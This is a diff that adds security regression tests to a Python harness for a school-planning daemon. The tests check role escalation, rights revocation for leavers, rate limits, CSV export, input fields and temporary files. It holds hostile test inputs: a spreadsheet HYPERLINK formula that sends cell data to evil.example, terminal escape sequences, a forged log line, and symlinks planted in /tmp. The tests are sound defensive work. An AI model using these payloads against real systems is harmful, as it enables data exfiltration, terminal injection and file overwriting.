@@ -421,8 +421,8 @@ def attack_sign_in(d):
 
 
 # ---- pages: login CSRF, open redirect, header injection -------------------------------------
-def sign_in(d, person, headers=None):
-    link = cli("login-link", "--config", CONFIG, SCHOOL, person, "--now", NOW)
+def sign_in(d, person, headers=None, school=SCHOOL):
+    link = cli("login-link", "--config", CONFIG, school, person, "--now", NOW)
     path = urllib.parse.urlparse(link).path
     status, hdrs, _ = d.request("POST", path, "", headers or {})
     return status, hdrs, path
@@ -453,6 +453,234 @@ def attack_pages(d):
                   "\t" not in loc and "Set-Cookie" not in str(hdrs.get("Set-Cookie", "")),
                   f"{status} {loc!r}")
 
+
+
+# ---- round two, 1: roles only within one's rights; one address, one person --------------------
+def change(d, tok, school, body):
+    return d.api("POST", f"/schools/{school}/changes", tok, body)
+
+
+def history_size(d, tok, school=SCHOOL):
+    status, _, body = d.api("GET", f"/schools/{school}/changes", tok)
+    assert status == 200, (status, body)
+    return len(body)
+
+
+def newcomer(name, email, roles=None, **extra):
+    body = {"kind": "person", "name": name, "email": email, "works": ["ma", "di"]}
+    if roles is not None:
+        body["roles"] = roles
+    body.update(extra)
+    return body
+
+
+def field_error(status, body, field, words):
+    return (status == 400 and isinstance(body, dict) and
+            any(f["field"] == field and words in f["message"] for f in body.get("fields", [])))
+
+
+def attack_grant(d, toks):
+    anna, erik = toks["anna"], toks["erik"]
+    stored = history_size(d, anna)
+    status, _, body = change(d, anna, SCHOOL, newcomer("Mal Loot", "someone@elsewhere.example",
+                                                       ["bestuurder"]))
+    check("an IB'er cannot make a bestuurder (400 at roles)",
+          field_error(status, body, "roles", "bestuurder"), f"{status} {body}")
+    for role in ("schoolleider", "ib"):
+        status, _, body = change(d, anna, SCHOOL, newcomer("Mal Loot", "mal@voorbeeld.nl", [role]))
+        check(f"an IB'er cannot make someone {role}",
+              field_error(status, body, "roles", "alleen de schoolleider"), f"{status} {body}")
+    status, _, body = change(d, erik, SCHOOL, newcomer("Mal Loot", "mal@voorbeeld.nl",
+                                                       ["bestuurder"]))
+    check("a schoolleider cannot make a bestuurder either",
+          field_error(status, body, "roles", "bestuurder"), f"{status} {body}")
+    status, _, body = change(d, erik, SCHOOL, dict(newcomer("Nina Nieuw", "nina@voorbeeld.nl",
+                                                            ["ib"]), preview=True))
+    check("the schoolleider may make someone IB'er (preview 200)", status == 200,
+          f"{status} {body}")
+    # An address a person of another school has, for a newcomer or a new invaller.
+    status, _, body = change(d, anna, SCHOOL, newcomer("Dubbel", "bram.jansen.twee@voorbeeld.nl"))
+    check("an address of another school's person is refused at the field",
+          field_error(status, body, "email", "andere school"), f"{status} {body}")
+    status, _, body = change(d, anna, SCHOOL, {
+        "kind": "absence", "person": "bram", "from": "2027-02-01", "to": "2027-02-05",
+        "substitute": {"name": "Ander", "email": "carla.smit@voorbeeld.nl"}})
+    check("a new invaller with a colleague's address is refused at the field",
+          field_error(status, body, "substitute.email", "Carla Smit"), f"{status} {body}")
+    check("nothing of it was stored", history_size(d, anna) == stored,
+          f"{stored} → {history_size(d, anna)}")
+    # The address that asked never gets a sign-in link.
+    form = {"Content-Type": "application/x-www-form-urlencoded"}
+    d.request("POST", "/inloggen", "email=someone%40elsewhere.example", form)
+    time.sleep(1.5)
+    check("the attacker's address gets no sign-in mail", mails_to("someone@elsewhere.example") == 0,
+          str(mails_to("someone@elsewhere.example")))
+
+
+# ---- round two, 2: a leaver keeps no rights ----------------------------------------------------
+def attack_leaver(d, toks):
+    erik2, anna2 = toks["erik@" + OTHER], toks["anna@" + OTHER]
+    # Before: his token reads the history, his session opens the changes page, a link is ready.
+    status, _, _ = d.api("GET", f"/schools/{OTHER}/changes", erik2)
+    check("the schoolleider reads the history (before leaving)", status == 200, str(status))
+    _, hdrs, _ = sign_in(d, "erik", school=OTHER)
+    cookie = hdrs.get("Set-Cookie", "").split(";")[0]
+    status, _, _ = d.request("GET", "/wijzigingen", headers={"Cookie": cookie})
+    check("his session opens /wijzigingen (before leaving)", status == 200, str(status))
+    link = cli("login-link", "--config", CONFIG, OTHER, "erik", "--now", NOW)
+    # He left on 12 January; today is the 20th.
+    status, _, body = change(d, anna2, OTHER, {"kind": "leave", "person": "erik",
+                                               "until": "2027-01-12"})
+    check("the IB'er enters the schoolleider's leaving", status == 201, f"{status} {body}")
+    status, _, _ = d.api("GET", f"/schools/{OTHER}/changes", erik2)
+    check("a leaver's token no longer reads the history", status in (401, 403), str(status))
+    stored = history_size(d, anna2, OTHER)
+    status, _, _ = change(d, erik2, OTHER, {"kind": "closure", "from": "2027-03-10",
+                                            "closure_kind": "vrij", "name": "Vrij"})
+    check("a leaver's token no longer posts changes", status in (401, 403), str(status))
+    check("nothing was stored for him", history_size(d, anna2, OTHER) == stored, "stored")
+    status, hdrs, _ = d.request("GET", "/wijzigingen", headers={"Cookie": cookie})
+    check("a leaver's session no longer opens /wijzigingen",
+          status in (302, 303, 401, 403) and status != 200, f"{status} {hdrs.get('Location')}")
+    path = urllib.parse.urlparse(link).path
+    status, hdrs, _ = d.request("POST", path, "")
+    check("a sign-in link made before he left opens nothing",
+          status == 403 and "Set-Cookie" not in hdrs, f"{status} {hdrs.get('Set-Cookie')}")
+
+
+# ---- round two, 3: a preview costs little, and never holds another school ---------------------
+def attack_preview_cost(d, toks):
+    erik, anna2 = toks["erik"], toks["anna@" + OTHER]
+    huge = dict(newcomer("Veel Groepen", "veel@voorbeeld.nl"), preview=True,
+                groups=[{"group": "groep-4-5", "days": ["ma"]}] * 700)
+    body = json.dumps(huge).encode()
+    result = {}
+
+    def slow():
+        t0 = time.time()
+        result["huge"] = d.request("POST", f"/api/v1/schools/{SCHOOL}/changes", body,
+                                   {"Authorization": f"Bearer {erik}",
+                                    "Content-Type": "application/json"}, timeout=60)
+        result["huge_s"] = time.time() - t0
+
+    t = threading.Thread(target=slow)
+    t.start()
+    time.sleep(0.05)
+    t0 = time.time()
+    status, _, answer = change(d, anna2, OTHER, {"kind": "closure", "from": "2027-03-10",
+                                                 "closure_kind": "studiedag", "name": "Studiedag",
+                                                 "preview": True})
+    other_s = time.time() - t0
+    t.join()
+    print(f"preview: 700 group entries answered in {result['huge_s'] * 1000:.0f} ms; another "
+          f"school's preview meanwhile in {other_s * 1000:.0f} ms ({len(body)} bytes)")
+    check("another school's preview answers while one is big", status == 200 and other_s < 1.0,
+          f"{status} {other_s:.2f} s {answer}")
+    hs, _, hb = result["huge"]
+    check("700 group entries are refused at the field, quickly",
+          hs == 400 and b"hoogstens" in hb and result["huge_s"] < 1.0,
+          f"{hs} {result['huge_s']:.2f} s {hb[:200]}")
+    # Previews count in the account's limit.
+    statuses = []
+    for _ in range(30):
+        status, hdrs, _ = change(d, anna2, OTHER, {"kind": "closure", "from": "2027-03-10",
+                                                   "closure_kind": "studiedag",
+                                                   "name": "Studiedag", "preview": True})
+        statuses.append(status)
+    check("previews are rate-limited per account", 429 in statuses and statuses.count(200) <= 20,
+          str(statuses))
+
+
+# ---- round two, 4-7: formulas, control characters, endless closures, temporary files ----------
+def page_session(d, person, school=SCHOOL):
+    _, hdrs, _ = sign_in(d, person, school=school)
+    return hdrs.get("Set-Cookie", "").split(";")[0]
+
+
+def control_chars(data):
+    return [hex(b) for b in data if (b < 0x20 and b not in (0x09, 0x0a, 0x0d)) or b == 0x7f]
+
+
+def attack_text(d, toks):
+    erik = toks["erik"]
+    formula = '=HYPERLINK("https://evil.example/?d="&A1,"klik")'
+    status, _, body = change(d, erik, SCHOOL, newcomer(formula, "formule@voorbeeld.nl",
+                                                       groups=[{"group": "groep-3"}],
+                                                       works=["ma", "di", "wo", "do", "vr"]))
+    check("a newcomer whose name is a formula is stored (it is text)", status == 201,
+          f"{status} {body}")
+    cookie = page_session(d, "erik")
+    status, _, csv = d.request("GET", "/jaarplanning.csv", headers={"Cookie": cookie})
+    text = csv.decode("utf-8-sig")
+    cells = [c.strip('"') for line in text.splitlines() for c in line.split(";")]
+    named = [c for c in cells if "HYPERLINK" in c]
+    check("the formula's name is in the CSV", status == 200 and len(named) > 0,
+          f"{status} {len(named)}")
+    check("no CSV cell starts with = + - @",
+          not [c for c in cells if c[:1] in ("=", "+", "-", "@")],
+          str([c for c in cells if c[:1] in ("=", "+", "-", "@")][:3]))
+    # Control characters in typed names are refused at the field.
+    for body, field in [
+        (newcomer("Evil\x07\x1b[31mName", "evil@voorbeeld.nl"), "name"),
+        (newcomer("Forged\n[info] school=x input version 9 by anna", "forged@voorbeeld.nl"),
+         "name"),
+        ({"kind": "closure", "from": "2027-03-11", "closure_kind": "vrij",
+          "name": "Vrij\x07\x1b]0;pwned\x07\x00"}, "name"),
+    ]:
+        status, _, answer = change(d, erik, SCHOOL, body)
+        check(f"a control character in {field} is refused at the field",
+              field_error(status, answer, field, "stuurtekens"), f"{status} {answer}")
+    # A closure until 9999-12-31.
+    status, _, answer = change(d, erik, SCHOOL, {"kind": "closure", "from": "2027-07-12",
+                                                 "to": "9999-12-31", "closure_kind": "vrij",
+                                                 "name": "Altijd vrij"})
+    check("a closure outside the school year is refused at 'to'",
+          field_error(status, answer, "to", "buiten het schooljaar"), f"{status} {answer}")
+    status, _, parents = d.request("GET", f"/scholen/{SCHOOL}/jaarrooster.ics")
+    check("the parents' feed: 200", status == 200, str(status))
+    check("the parents' feed has no invalid date", b":00000000" not in parents, "00000000")
+    check("the parents' feed has no control character", not control_chars(parents),
+          str(control_chars(parents)[:5]))
+    for args in (["person", "hanna"], ["school"]):
+        url = re.findall(r"http://[^\s]+/feeds/[^\s]+\.ics",
+                         cli("subscribe", "--config", CONFIG, SCHOOL, *args))[0]
+        time.sleep(2.5)
+        status, _, feed = d.request("GET", urllib.parse.urlparse(url).path)
+        check(f"feed {args[0]}: no control character", status == 200 and not control_chars(feed),
+              f"{status} {control_chars(feed)[:5]}")
+
+
+def attack_tmpfile(d):
+    # The daemon's former name for its temporary workbook: /tmp/jaarplanning-<pid>-<n>.xlsx.
+    victim = os.path.join(WORK, "victim.txt")
+    with open(victim, "w") as f:
+        f.write("niet overschrijven\n")
+    planted = []
+    for n in range(40):
+        path = f"/tmp/jaarplanning-{d.proc.pid}-{n}.xlsx"
+        try:
+            os.symlink(victim, path)
+            planted.append(path)
+        except FileExistsError:
+            pass
+    cookie = page_session(d, "anna")
+    try:
+        status, hdrs, xlsx = d.request("GET", "/jaarplanning.xlsx", headers={"Cookie": cookie})
+        check("the xlsx export still works", status == 200 and xlsx[:2] == b"PK",
+              f"{status} {xlsx[:40]}")
+        check("a planted symlink in /tmp is not followed",
+              open(victim, "rb").read() == b"niet overschrijven\n",
+              repr(open(victim, "rb").read()[:40]))
+    finally:
+        for p in planted:
+            if os.path.lexists(p):
+                os.unlink(p)
+
+
+def attack_log(d):
+    log = open(d.log_path, "rb").read()
+    check("the daemon's log holds no control character", not control_chars(log.replace(b"\r", b"")),
+          str(control_chars(log)[:5]))
 
 # ---- 7: the connection cap -----------------------------------------------------------------
 def attack_connections(d):
@@ -500,6 +728,7 @@ def attack_plain_smtp():
 def main():
     setup()
     toks = {p: token(SCHOOL, p) for p in ("anna", "erik", "fatima", "bram", "carla", "dirk")}
+    toks.update({p + "@" + OTHER: token(OTHER, p) for p in ("anna", "erik")})
     attack_plain_smtp()
     d = Daemon()
     try:
@@ -510,8 +739,14 @@ def main():
         attack_held_on(d, toks)
         attack_notes(d, toks)
         attack_pages(d)
+        attack_grant(d, toks)
+        attack_leaver(d, toks)
+        attack_preview_cost(d, toks)
+        attack_text(d, toks)
+        attack_tmpfile(d)
         attack_write_path(d, toks)
         attack_sign_in(d)
+        attack_log(d)
         attack_connections(d)
     finally:
         d.stop()
